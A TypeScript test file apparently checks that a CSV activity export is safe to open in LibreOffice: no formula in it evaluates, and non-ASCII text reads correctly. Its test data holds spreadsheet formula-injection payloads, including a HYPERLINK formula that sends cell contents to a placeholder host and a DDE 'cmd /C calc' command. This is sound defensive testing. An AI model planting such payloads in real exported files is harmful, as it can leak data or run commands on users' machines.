import { execFile } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { expect } from 'vitest';
import { activityFile } from '#src/shared/export/activity-file';
import { ACTIVITY_ROW } from '#tests/support/activity-row';
import { folderTest as test } from '#tests/support/fixtures';

/** A real spreadsheet reads what was exported. */

const LIBREOFFICE = '/usr/bin/libreoffice';
/** Separated by commas, semicolons and tabs, as its dialog proposes; UTF-8; formulas are evaluated. */
const READING = 'CSV:44/59/9,34,76,1,,0,false,true,false,false,false,0,true';
const NAMES = [
  'größe ä€ 漢',
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', ' =1+1', '"=1+1', '\t=1+1', '\uFF1D1+1', '=HYPERLINK("http://x/?"&A1,"x")'],
  ...['a;=1+1', 'a\n=1+1', 'a\t=1+1', 'a,=1+1', 'a";"=1+1', "=cmd|' /C calc'!A0"],
];

test.skipIf(!existsSync(LIBREOFFICE))(
  'LibreOffice runs nothing of an export, and reads its umlauts',
  { timeout: 90_000 },
  async ({ folder }) => {
    const activity = NAMES.map((name, index) => ({ ...ACTIVITY_ROW, name, error: name, activity_id: index + 1 }));
    let csv = '';
    const read = async () => ({ activity, has_more: false, last_id: activity.length });
    for await (const piece of activityFile({ format: 'csv', filter: {}, version: '0.0.0', read })) csv += piece;
    writeFileSync(join(folder, 'calls.csv'), csv);
    // What is not defused is run; otherwise this would prove nothing.
    writeFileSync(join(folder, 'control.csv'), 'name\r\n=1+1\r\n');
    const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile'))}`;
    const files = ['calls.csv', 'control.csv'].map((name) => join(folder, name));
    const options = ['--headless', `--infilter=${READING}`, '--convert-to', 'fods', '--outdir', folder];
    await promisify(execFile)(LIBREOFFICE, [profile, ...options, ...files], { timeout: 80_000 });
    const sheet = (name: string) => readFileSync(join(folder, `${name}.fods`), 'utf8');
    const formulas = (name: string) => sheet(name).match(/table:formula="[^"]*"/g) ?? [];
    expect(formulas('control')).toEqual(['table:formula="of:=1+1"']);
    expect(formulas('calls')).toEqual([]);
    expect(sheet('calls')).toContain('<text:p>größe ä€ 漢</text:p>');
    expect(sheet('calls')).toContain('<text:p>activity_id</text:p>');
  },
);
